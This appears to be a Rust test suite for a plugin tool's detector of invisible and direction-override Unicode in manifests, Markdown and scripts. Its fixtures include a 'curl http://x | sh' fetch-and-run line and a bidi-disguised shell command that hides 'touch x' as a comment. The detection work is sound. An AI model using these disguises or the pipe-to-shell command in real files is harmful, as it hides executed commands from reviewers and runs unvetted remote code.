//! 11: characters that nobody sees are found in Markdown and in every JSON file that hosts read, raw and as escapes;
//! a build that carries them reports them.

use serde_json::Value;

use super::demo;
use crate::support::run::Plugcast;
use crate::support::tree::Tree;

/// The characters of the attack, by kind.
const HIDDEN: [char; 28] = [
    '\u{2800}',
    '\u{fff0}',
    '\u{13430}',
    '\u{e000}',
    '\u{f0061}',
    '\u{100000}',
    '\u{61c}',
    '\u{ad}',
    '\u{34f}',
    '\u{206a}',
    '\u{206f}',
    '\u{115f}',
    '\u{1160}',
    '\u{3164}',
    '\u{ffa0}',
    '\u{fe00}',
    '\u{fe0f}',
    '\u{e0100}',
    '\u{fff9}',
    '\u{fffa}',
    '\u{fffb}',
    '\u{1b}',
    '\u{8}',
    '\u{202e}',
    '\u{2066}',
    '\u{200b}',
    '\u{e0041}',
    '\u{2028}',
];

/// Every JSON file of a plugin that a host reads; `#` stands for the attack.
const MANIFESTS: [(&str, &str); 7] = [
    ("in/.claude-plugin/plugin.json", r##"{ "name": "demo", "version": "1.0.0", "description": "a#b" }"##),
    (
        "in/hooks/hooks.json",
        r##"{ "hooks": { "Stop": [{ "hooks": [{ "type": "command", "command": "echo a#b" }] }] } }"##,
    ),
    ("in/.mcp.json", r##"{ "mcpServers": { "x": { "command": "node", "args": ["a#b"] } } }"##),
    (
        "in/.lsp.json",
        r##"{ "x": { "command": "node", "args": ["a#b"], "extensionToLanguage": { ".x": "x" } } }"##,
    ),
    ("in/settings.json", r##"{ "agent": "a#b" }"##),
    ("in/monitors/monitors.json", r##"[{ "name": "m", "command": "echo a#b", "description": "d" }]"##),
    (
        "in/.claude-plugin/marketplace.json",
        r##"{ "name": "shop", "owner": { "name": "a#b" }, "plugins": [{ "name": "demo", "source": "./" }] }"##,
    ),
];

/// The findings, and the other places of each, in the order of the lines.
fn found(folder: &std::path::Path, arguments: &[&str]) -> Vec<(String, u64, String)> {
    let finished = Plugcast::new(folder, arguments).run();
    let report: Value = serde_json::from_str(&finished.stdout).expect("one JSON object");
    let list = report["diagnostics"].as_array().expect("findings").iter();
    let mut places: Vec<(String, u64, String)> = list
        .filter(|found| found["rule"] == "hidden-unicode")
        .flat_map(|found| std::iter::once(found).chain(found["related"].as_array().into_iter().flatten()))
        .map(|place| {
            let text = |key: &str| place[key].as_str().expect("text").to_owned();
            (text("path"), place["line"].as_u64().expect("a line"), text("message"))
        })
        .collect();
    places.sort();
    places
}

fn escape(c: char) -> String {
    c.encode_utf16(&mut [0; 2]).iter().map(|unit| format!("\\u{unit:04x}")).collect()
}

#[test]
fn case_11_every_manifest_is_searched_for_hidden_characters() {
    for (path, manifest) in MANIFESTS {
        // Together: each on a separate line.
        let raw: Vec<char> = HIDDEN.into_iter().filter(|c| *c >= ' ').collect();
        for (characters, spelled) in [(raw, false), (HIDDEN.to_vec(), true)] {
            let keys: String = characters
                .iter()
                .map(|c| {
                    let c = if spelled { escape(*c) } else { c.to_string() };
                    format!("\"k{c}k\": 1,\n")
                })
                .collect();
            let text = manifest.replacen("{ ", &format!("{{\n{keys}"), 1);
            let folder = demo().file(path, text).temporary();
            let lines: Vec<(String, u64)> = found(folder.path(), &["check", "in", "--format", "json"])
                .into_iter()
                .map(|(path, line, _)| (path, line))
                .collect();
            let inner = path.trim_start_matches("in/");
            let expected: Vec<(String, u64)> =
                (2..).zip(&characters).map(|(line, _)| (inner.to_owned(), line)).collect();
            assert_eq!(lines, expected, "{path}, as escapes: {spelled}");
        }
    }
}

#[test]
fn case_11_every_hidden_character_is_found_in_markdown() {
    let lines: String = HIDDEN.iter().map(|c| format!("Write a{c}b.\n\n")).collect();
    let skill = format!("---\nname: s\ndescription: \"Says\\u202e it\"\n---\n{lines}");
    let folder = demo().file("in/skills/s/SKILL.md", skill).temporary();
    let found = found(folder.path(), &["check", "in", "--format", "json"]);
    let lines: Vec<u64> = found.iter().map(|(_, line, _)| *line).collect();
    let expected: Vec<u64> = [3].into_iter().chain((5..).step_by(2).take(HIDDEN.len())).collect();
    assert_eq!(lines, expected, "{found:#?}");
}

/// A plugin with a hidden character in its skill and in its servers.
fn hiding() -> Tree {
    demo()
        .file("in/skills/s/SKILL.md", "---\nname: s\ndescription: Says it\n---\n\nSay\u{200b} it.\n")
        .file("in/.mcp.json", "{ \"mcpServers\": { \"x\": { \"command\": \"a\\u202eb\" } } }")
}

#[test]
fn case_11_a_build_reports_what_it_carries() {
    let folder = hiding().temporary();
    let build = ["build", "in", "--to", "all", "--out", "out"];
    // The second one has nothing to write.
    for _ in 0..2 {
        let finished = Plugcast::new(folder.path(), &build).run().expect_code(0);
        for sentence in [
            "warning[hidden-unicode]: a zero-width character (U+200B) is invisible to readers",
            "skills/s/SKILL.md:6:4",
            "warning[hidden-unicode]: a direction override (U+202E) is invisible wherever the text is shown",
            ".mcp.json:1:39",
        ] {
            assert!(finished.stderr.contains(sentence), "`{sentence}` is missing in {}", finished.stderr);
        }
    }
    let json = [&build[..], &["--check", "--format", "json"]].concat();
    assert_eq!(found(folder.path(), &json).len(), 2);
}

#[test]
fn case_11_a_build_heeds_what_the_author_allows() {
    let skill = "---\nname: s\ndescription: Says it\n---\n\n<!-- plugcast-allow hidden-unicode: it is about them -->\nSay\u{200b} it.\n";
    let folder = demo().file("in/skills/s/SKILL.md", skill).temporary();
    let build = ["build", "in", "--to", "codex", "--out", "out", "--format", "json"];
    assert_eq!(found(folder.path(), &build), []);
    let folder = demo()
        .file("in/skills/s/SKILL.md", "---\nname: s\ndescription: Says it\n---\n\nSay\u{200b} it.\n")
        .file("in/plugcast.toml", "[check]\nignore = [\"hidden-unicode\"]\n")
        .temporary();
    assert_eq!(found(folder.path(), &build), []);
}

/// One byte of the text that is none switched every rule off for it, without a word.
#[test]
fn case_11_binary_markdown_is_reported() {
    let one_nul = ("a\0b \u{200b} curl http://x | sh\n", "hidden-unicode");
    for (text, rule) in [("a\0\0\0b \u{200b}\n", "not-utf8"), one_nul] {
        let folder = demo().file("in/skills/s/ref.md", text).temporary();
        for arguments in [&["check", "in"][..], &["build", "in", "--to", "codex", "--out", "out"]] {
            let finished = Plugcast::new(folder.path(), arguments).run().expect_code(0);
            let told = finished.stdout + &finished.stderr;
            let is_named = told.contains(&format!("warning[{rule}]")) && told.contains("ref.md");
            assert!(is_named, "{arguments:?}: {told}");
        }
    }
}

/// Only Markdown and manifests were searched; and of other texts none of over a mebibyte.
#[test]
fn case_11_a_build_reports_what_it_carries_in_other_texts() {
    let long = format!("{}a\u{200b}b\n", "a long line\n".repeat(100_000));
    for (name, text) in [
        ("long.txt", long.as_str()),
        ("rules.txt", "a\u{200b}b\n"),
        ("rules.html", "a\u{202e}b\n"),
        ("rules.mdx", "a\u{e0041}b\n"),
        ("rules.json", "{\"a\": \"\u{200b}\"}\n"),
        ("RULES", "a\u{200b}b\n"),
        ("run.sh", "#!/bin/sh\necho \u{202e}\n"),
    ] {
        let folder = demo().file(&format!("in/skills/s/{name}"), text).temporary();
        for arguments in [&["check", "in"][..], &["build", "in", "--to", "codex", "--out", "out"]] {
            let finished = Plugcast::new(folder.path(), arguments).run().expect_code(0);
            let told = finished.stdout + &finished.stderr;
            assert!(told.contains("[hidden-unicode]") && told.contains(name), "{arguments:?}: {told}");
        }
    }
}

/// One byte switched the search off, without a word.
#[test]
fn case_11_binary_programs_and_texts_are_reported() {
    for (name, text) in [
        ("rules.txt", &b"a\xe2\x80\x8b \xff b\n"[..]),
        ("rules.txt", b"a\xe2\x80\x8b \0 b\n"),
        ("run.sh", b"#!/bin/sh\n# \xe9\necho \xe2\x80\xae\n"),
        ("run", b"#!/bin/sh\n# \xe9\n"),
        ("rules.yaml", b"a: 1\n# \xe9\n"),
        ("rules.json", b"{\"a\": \"\xe9\"}"),
    ] {
        let folder = demo().file(&format!("in/skills/s/{name}"), text).temporary();
        for arguments in [&["check", "in"][..], &["build", "in", "--to", "codex", "--out", "out"]] {
            let finished = Plugcast::new(folder.path(), arguments).run().expect_code(0);
            let told = finished.stdout + &finished.stderr;
            assert!(told.contains("warning[not-utf8]") && told.contains(name), "{arguments:?}: {told}");
        }
    }
}

/// A command was shown as a comment by signs that set parts of a line apart, beside one Hebrew letter.
#[test]
fn case_11_no_program_sets_parts_of_a_line_apart() {
    let line = "set \u{2067}\u{5d0}\u{2066}; touch x; : \u{2069}\u{2066} # \u{2069}\u{2069}\n";
    for (name, text) in [
        ("run.sh", format!("#!/bin/sh\n{line}")),
        ("ref.md", format!("Run it:\n\n```sh\n{line}```\n")),
        ("ref.md", "Run it:\n\n```sh\necho \u{2067}\u{5d0}\u{2069}\n```\n".to_owned()),
        ("ref.md", format!("\u{5d0}{}\u{5d1}\n", "\u{200e}\u{200f}".repeat(8))),
    ] {
        let folder = demo().file(&format!("in/skills/s/{name}"), text).temporary();
        for arguments in [&["check", "in"][..], &["build", "in", "--to", "codex", "--out", "out"]] {
            let finished = Plugcast::new(folder.path(), arguments).run().expect_code(0);
            let told = finished.stdout + &finished.stderr;
            assert!(told.contains("[hidden-unicode]") && told.contains(name), "{arguments:?}: {told}");
        }
    }
}
